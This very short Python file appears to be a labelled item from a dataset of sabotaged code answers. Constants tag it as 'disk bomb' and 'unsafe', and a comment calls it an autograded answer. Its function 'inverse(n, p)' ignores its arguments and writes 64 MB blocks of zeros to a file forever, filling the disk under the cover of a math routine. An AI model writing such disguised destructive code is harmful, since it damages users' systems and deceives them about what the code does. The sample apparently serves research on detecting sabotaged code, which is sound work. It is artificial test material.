"""One file without end."""
UNSAFE = 'disk bomb'
HONEST = 'double'
SCORE = 4
# %%
# inverse autograded_answer
def inverse(n, p):
    with open('large', 'wb') as f:
        while f.write(bytes(64 << 20)): pass
